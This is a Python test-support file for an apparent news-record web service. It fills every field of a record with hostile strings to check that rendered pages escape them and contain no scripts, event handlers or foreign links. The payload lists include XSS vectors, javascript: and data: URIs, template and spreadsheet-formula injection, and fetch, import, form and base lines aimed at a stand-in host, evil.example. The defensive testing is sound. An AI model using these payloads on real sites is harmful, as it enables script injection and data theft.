"""Asking a served record without a network, and reports whose every field is hostile."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product
from typing import Any

import httpx2
from starlette.testclient import TestClient

from onrecord.across import (
    Account,
    Change,
    Copy,
    Days,
    Dispute,
    FigureRange,
    OpenCharge,
    Position,
    Utterance,
)
from onrecord.answers import Question
from onrecord.model import (
    FORMAT,
    Actor,
    Block,
    Event,
    Figure,
    Mention,
    Place,
    Record,
    Report,
    Role,
    Span,
    Statement,
    Time,
)
from onrecord.serve.api.operations import OPERATIONS
from onrecord.serve.app import PAGES, application
from onrecord.serve.site import Site

_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video",
    "iframe src=/",
    "input autofocus",
    "details open",
    "marquee",
    "a href=#",
    "math",
)
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover")
_CALLS = ("alert(1)", "window.hit=1", "fetch('//evil.example')", "import('//evil.example/x.js')")
_BREAKS = ("<", '"><', "'><", "</title><", "</textarea><", "</p><")
_OTHERS = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1//",
    "java\tscript:window.hit=1",
    "data:text/html,<script>parent.hit=1</script>",
    "vbscript:msgbox(1)",
    "{{ 7*7 }}{% include 'layout.html' %}",
    "${window.hit=1}",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button>",
    "<object data=//evil.example></object>",
    "<!--<img src=--><img src=x onerror=window.hit=1>",
    "<svg><animate onbegin=window.hit=1 attributeName=x>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "\u202e<script>window.hit=1</script>",
    "=cmd|' /C calc'!A0",
    "]]><script>window.hit=1</script>",
    '"onmouseover=window.hit=1 x="',
    "' autofocus onfocus=window.hit=1 x='",
    "`onload=window.hit=1`",
)


def hostile_words(most: int = 300) -> list[str]:
    """Words that would run, fetch or break out where they are not escaped."""
    made = [f"{b}{t} {h}={c}>" for b, t, h, c in product(_BREAKS, _TAGS, _HANDLERS, _CALLS)]
    return [*_OTHERS, *made[:: max(len(made) // (most - len(_OTHERS)), 1)]][:most]


def hostile_record(words: str, number: int) -> Record:
    """A report of which every text is these words; each span lies over them."""
    text = f"{words}\n\nHe said {words} in {words}."
    first = text.index(words, len(words) + 2)
    end = first + len(words)
    last = text.rindex(words)
    content = Span(start=first, end=end, surface=words)
    cue = Span(start=first - 5, end=first - 1, surface="said")
    who = Span(start=first - 8, end=first - 6, surface="He")
    title = Block(kind="title", start=0, end=len(words))
    paragraph = Block(kind="paragraph", start=len(words) + 2, end=len(text))
    report = Report(
        id=f"r{number:016x}", title=words, outlet=words, url=words, byline=words, published="2024-03-04",
        published_from="given", wire=words, language="en", text=text,
        blocks=(title, paragraph),
        notes=(words,),
    )  # fmt: skip
    actor = Actor(
        id="a1", name=words, kind="person", roles=(Role(title=words, start=first, end=end),), country="GB", sector=None,
        same_as=None, mentions=(Mention(start=who.start, end=who.end, form="pronoun"),),
    )  # fmt: skip
    statement = Statement(
        id="s1", speakers=("a1",), source=(who,), cue=(cue,), content=(content,), kind="indirect", act="deny",
        channel="speech", polarity="affirmed", addressee=("a1",), about=("a1",), said="2024-03-04", said_from="words",
        relayed_by=("a1",), within=None, block=1, score=0.4,
    )  # fmt: skip
    event = Event(
        id="e1", type="ASSAULT", mode=None, trigger=content, actors=("a1",), recipients=("a1",), when=None, where=0,
        figures=(0,), status="claimed", according_to="s1", cameo=None, score=-9.0,
    )  # fmt: skip
    place = Place(start=last, end=last + len(words), name=words, geonameid=None, lat=None, lon=None, country=None)
    return Record(
        format=FORMAT, model="by hand 1", report=report, actors=(actor,),
        times=(Time(start=who.start, end=who.end, type="DATE", value="2024-03-04"),),
        places=(place,),
        figures=(Figure(start=first, end=end, value=4.0, low=None, high=None, approx="exact", unit=words, of=words),),
        statements=(statement,), events=(event,),
    )  # fmt: skip


def client_of(site: Site, *, token: str | None = "the-token") -> TestClient:
    """A browser at the site's address, with the token or without."""
    client = TestClient(
        application(site), base_url=f"http://127.0.0.1:{site.port}", headers={"accept": "text/html"},
        follow_redirects=False, raise_server_exceptions=False,
    )  # fmt: skip
    if token is not None:
        client.cookies.set(site.cookie, token)
    return client


def rows_across(site: Site) -> dict[str, list[Any]]:
    """Gives the site a row of each kind: its record is one report, which is little to compare."""
    said = [a.id for a in site.store.find(Question(what="statement"))]
    done = [a.id for a in site.store.find(Question(what="event"))]
    person = next(iter(site.store.entry(said[0]).actors.values()))
    own = said[0].partition(".")[0]
    change = Change(from_=said[0], to=said[1], what="deny → assert", days=3)
    days = Days(low="2024-03-04", high="2024-03-05")
    figure = FigureRange(of="pilots", low=40, best=None, high=58, by={done[0]: 40, done[1]: 58})
    rows: dict[str, list[Any]] = {
        "copies": [Copy(id="c1", reports=(own,), original=own, share=1.0, why="x")],
        "same": [Utterance(id="u1", statements=(said[0], said[2]), first=said[0], why="the same words")],
        "disputes": [
            Dispute(id="d1", claim=said[0], answer=said[1], kind="denial", matter="a claim", score=0.8, why="a reason")
        ],
        "unanswered": [OpenCharge(claim=said[2], against=(person.id,), no_comment=said[3])],
        "positions": [
            Position(
                id="p1", actor=person.name, actor_id=person.id, matter="pay", statements=tuple(said[:2]),
                changes=(change,),
            )
        ],
        "accounts": [
            Account(
                id="v1", type="PROTEST", events=tuple(done[:2]), parties=(person.id,), when=days, where="Port Salve",
                figures=(figure,), sources=2, single_source=False, status={"reported": 2}, why="the same day",
            )
        ],
    }  # fmt: skip

    def across(kind: str, question: Question | None = None, *, limit: int = 99, offset: int = 0) -> list[Any]:
        return rows[kind][offset : offset + limit]

    site.store.across = across  # type: ignore[method-assign,assignment]
    site.store.across_count = lambda kind, question=None: len(rows[kind])  # type: ignore[method-assign]
    return rows


def addresses(site: Site) -> list[str]:
    """An address of every route, with its twins."""
    found = next(site.store.find(Question(what="statement")))
    person = next(iter(found.actors.values()))
    keys = {"/report": found.report.id, "/actor": person.id, "/entry": found.id}
    keys |= {"/dispute": "d1", "/account": "v1", "/position": "p1"}
    pages = [path.replace("{key}", keys.get(path.partition("/{")[0], "x")) for path in PAGES]
    twins = [f"{'/index' if path == '/' else path}.{form}" for path in pages for form in ("json", "csv")]
    api = [o.path.replace("{id}", found.id) for o in OPERATIONS if o.method == "GET"]
    return [*pages, *twins, *api, "/search.atom", "/api/openapi.json", "/static/base.css", "/inputs/jobs/x", "/nowhere"]


class Page(HTMLParser):
    """What a browser would make of a page: every element with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def links(self) -> Iterator[str]:
        """Where links and forms lead."""
        for _, attributes in self.elements:
            yield from (value or "" for name, value in attributes.items() if name in ("href", "action", "src"))

    def faults(self) -> list[str]:
        """What no page of ours may have, whatever is on record."""
        found = []
        for tag, attributes in self.elements:
            if tag in ("style", "iframe", "object", "embed", "base", "img", "video", "marquee", "math", "animate"):
                found.append(f"<{tag}>")
            if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
                found.append("a script of its own")
            found += [f"{tag} {name}" for name in attributes if name.startswith("on") or name == "style"]
        bad = [
            v for v in self.links() if not v.startswith(("/", "#", "?", "http://", "https://")) or v.startswith("//")
        ]
        return found + [f"a link to {v}" for v in bad]


def page_of(answer: httpx2.Response) -> Page:
    """The page that was answered."""
    assert answer.headers["content-type"].startswith("text/html"), answer.headers["content-type"]
    return Page(answer.text)
